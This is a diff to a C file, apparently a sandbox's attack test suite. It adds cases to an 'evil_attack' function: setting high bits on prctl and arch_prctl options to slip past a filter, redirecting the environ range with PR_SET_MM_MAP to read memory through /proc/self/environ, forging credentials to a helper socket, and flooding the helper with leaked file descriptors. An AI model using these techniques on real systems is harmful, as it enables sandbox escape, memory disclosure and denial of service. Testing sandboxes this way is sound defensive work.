@@ -627,6 +627,208 @@ static long userfaultfd_dev(uintptr_t target, uintptr_t len)
 	return r;
 }
 
+#ifndef PR_SET_MM_MAP
+#define PR_SET_MM_MAP 14
+#endif
+struct mm_map_args {
+	uint64_t start_code, end_code, start_data, end_data, start_brk, brk, start_stack;
+	uint64_t arg_start, arg_end, env_start, env_end;
+	uint64_t *auxv;
+	uint32_t auxv_size, exe_fd;
+};
+
+/* The filter compares prctl's option as 64 bits; the kernel takes an int. */
+static long set_environ_range(uintptr_t lo, uintptr_t hi, unsigned long high)
+{
+	unsigned long f[64] = {0};
+	char buf[2048];
+	int fd = open("/proc/self/stat", O_RDONLY);
+	if (fd < 0)
+		return -1;
+	ssize_t n = read(fd, buf, sizeof(buf) - 1);
+	close(fd);
+	if (n <= 0)
+		return -1;
+	buf[n] = 0;
+	char *p = strrchr(buf, ')') + 2;
+	p += 2; /* the state letter and its space */
+	for (int i = 4; i < 60 && *p; i++) {
+		f[i] = strtoul(p, &p, 10);
+		while (*p == ' ')
+			p++;
+	}
+	struct mm_map_args m = {.start_code = f[26],
+				.end_code = f[27],
+				.start_data = f[45],
+				.end_data = f[46],
+				.start_brk = f[47],
+				.brk = (uint64_t)syscall(SYS_brk, 0),
+				.start_stack = f[28],
+				.arg_start = f[48],
+				.arg_end = f[49],
+				.env_start = lo,
+				.env_end = hi,
+				.auxv = NULL,
+				.auxv_size = 0,
+				.exe_fd = (uint32_t)-1};
+	fprintf(
+	    stderr,
+	    "code %#lx-%#lx data %#lx-%#lx brk %#lx-%#lx stack %#lx args %#lx-%#lx env %#lx-%#lx\n",
+	    f[26], f[27], f[45], f[46], f[47], (unsigned long)m.brk, f[28], f[48], f[49], f[50],
+	    f[51]);
+	return syscall(SYS_prctl, high | PR_SET_MM, PR_SET_MM_MAP, &m, sizeof(m), 0);
+}
+
+static long read_through_environ(uintptr_t target, long secret, unsigned long high)
+{
+	long r = set_environ_range(target, target + sizeof(long), high);
+	fprintf(stderr, "prctl(PR_SET_MM%s, PR_SET_MM_MAP) = %ld (%s)\n", high ? " | 1<<32" : "", r,
+		r ? strerror(errno) : "ok");
+	if (r)
+		return 0;
+	long v = 0;
+	int fd = open("/proc/self/environ", O_RDONLY);
+	ssize_t n = fd < 0 ? -1 : read(fd, &v, sizeof(v));
+	fprintf(stderr, "/proc/self/environ: fd %d, read %zd, value %#lx (secret %#lx)\n", fd, n, v,
+		secret);
+	if (fd >= 0)
+		close(fd);
+	if (n != sizeof(v) || v != secret) {
+		errno = EIO;
+		return 0;
+	}
+	return 1;
+}
+
+/* Sends NAME to the helper's socket with NFDS reply sockets and, if pid, forged credentials. */
+static int helper_ask(int sock, const char *name, pid_t pid, int nfds, int *err)
+{
+	int sv[2], extra[4];
+	if (socketpair(AF_UNIX, SOCK_SEQPACKET, 0, sv))
+		return -1;
+	for (int i = 1; i < nfds; i++)
+		extra[i] = open("/dev/null", O_RDONLY);
+	union {
+		struct cmsghdr h;
+		char buf[CMSG_SPACE(sizeof(struct ucred)) + CMSG_SPACE(4 * sizeof(int))];
+	} u;
+	memset(&u, 0, sizeof(u));
+	struct iovec iov = {(void *)name, strlen(name)};
+	struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf};
+	struct cmsghdr *c = (struct cmsghdr *)u.buf;
+	size_t len = 0;
+	m.msg_controllen = sizeof(u.buf);
+	if (pid) {
+		struct ucred cr = {pid, getuid(), getgid()};
+		c->cmsg_level = SOL_SOCKET;
+		c->cmsg_type = SCM_CREDENTIALS;
+		c->cmsg_len = CMSG_LEN(sizeof(cr));
+		memcpy(CMSG_DATA(c), &cr, sizeof(cr));
+		len += CMSG_SPACE(sizeof(cr));
+		c = (struct cmsghdr *)(u.buf + CMSG_SPACE(sizeof(cr)));
+	}
+	c->cmsg_level = SOL_SOCKET;
+	c->cmsg_type = SCM_RIGHTS;
+	c->cmsg_len = CMSG_LEN(nfds * sizeof(int));
+	extra[0] = sv[1];
+	memcpy(CMSG_DATA(c), extra, nfds * sizeof(int));
+	len += CMSG_SPACE(nfds * sizeof(int));
+	m.msg_controllen = len;
+	int fd = -1;
+	*err = -1;
+	ssize_t s;
+	while ((s = sendmsg(sock, &m, MSG_NOSIGNAL | MSG_DONTWAIT)) < 0 && errno == EAGAIN)
+		usleep(1000);
+	close(sv[1]);
+	if (nfds > 1) {
+		close(sv[0]);
+		return -1;
+	}
+	for (int i = 1; i < nfds; i++)
+		close(extra[i]);
+	if (s >= 0) {
+		union {
+			struct cmsghdr h;
+			char buf[CMSG_SPACE(sizeof(int))];
+		} r;
+		iov = (struct iovec){err, sizeof(*err)};
+		m = (struct msghdr){.msg_iov = &iov,
+				    .msg_iovlen = 1,
+				    .msg_control = r.buf,
+				    .msg_controllen = sizeof(r.buf)};
+		struct timeval tv = {2, 0};
+		setsockopt(sv[0], SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
+		if (recvmsg(sv[0], &m, 0) > 0 && (c = CMSG_FIRSTHDR(&m)) &&
+		    c->cmsg_type == SCM_RIGHTS)
+			memcpy(&fd, CMSG_DATA(c), sizeof(int));
+	} else {
+		*err = -errno;
+	}
+	close(sv[0]);
+	return fd;
+}
+
+static int helper_socket(void)
+{
+	for (int fd = 0; fd < 256; fd++) {
+		struct stat st;
+		int type = 0;
+		socklen_t len = sizeof(type);
+		if (fstat(fd, &st) || !S_ISSOCK(st.st_mode) ||
+		    getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) || type != SOCK_SEQPACKET)
+			continue;
+		return fd;
+	}
+	return -1;
+}
+
+static int count_fds(int dfd)
+{
+	char buf[4096];
+	int n = 0;
+	long k;
+	lseek(dfd, 0, SEEK_SET);
+	while ((k = syscall(SYS_getdents64, dfd, buf, sizeof(buf))) > 0)
+		for (long o = 0; o < k;) {
+			unsigned short rl;
+			memcpy(&rl, buf + o + 16, 2);
+			if (buf[o + 19] != '.')
+				n++;
+			o += rl;
+		}
+	return n;
+}
+
+/* Fd leak: two descriptors per request; the helper keeps both. */
+static long helper_fd_flood(void)
+{
+	int s = helper_socket(), err = 0;
+	fprintf(stderr, "helper socket %d, my pid %d\n", s, (int)getpid());
+	if (s < 0)
+		return 0;
+	pid_t hp = getuid() == 0 ? getpid() + 2 : 0; /* the grandchild, cloned twice at start-up */
+	int d = hp ? helper_ask(s, "fd", hp, 1, &err) : -1;
+	fprintf(stderr, "helper (pid %d guessed) fd dir: %d (err %d): %d fds\n", hp, d, err,
+		d >= 0 ? count_fds(d) : -1);
+	for (int i = 0; i < 700; i++) {
+		helper_ask(s, "status", 0, 2, &err);
+	}
+	if (d >= 0)
+		fprintf(stderr, "after 700 two-descriptor requests the helper holds %d fds\n",
+			count_fds(d));
+	int f = helper_ask(s, "status", 0, 1, &err);
+	fprintf(stderr, "a legitimate ask for status now: fd %d err %d (%s)\n", f, err,
+		err > 0 ? strerror(err) : "-");
+	if (d >= 0)
+		close(d);
+	if (f >= 0) {
+		close(f);
+		errno = EIO;
+		return 0;
+	}
+	return 1;
+}
+
 static void *relay(void *arg)
 {
 	app_hold((int)(intptr_t)arg);
@@ -802,6 +1004,17 @@ long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
 		break;
 	case 41:
 		return userfaultfd_dev(target, len);
+	case 42: /* environ's range set on app's heap: prctl's option with high bits */
+		return read_through_environ(target, secret, 1UL << 32);
+	case 43: {
+		unsigned long fs = 0;
+		r = syscall(SYS_arch_prctl, ARCH_GET_FS, &fs);
+		if (r == 0)
+			r = syscall(SYS_arch_prctl, (1UL << 32) | ARCH_SET_FS, fs);
+		break;
+	}
+	case 44:
+		return helper_fd_flood();
 	case 29: /* every stack of every pool free: the next thread gets one in use */
 		for (uint64_t c = 0; c < 16; c++) {
 			size_t n = 0;
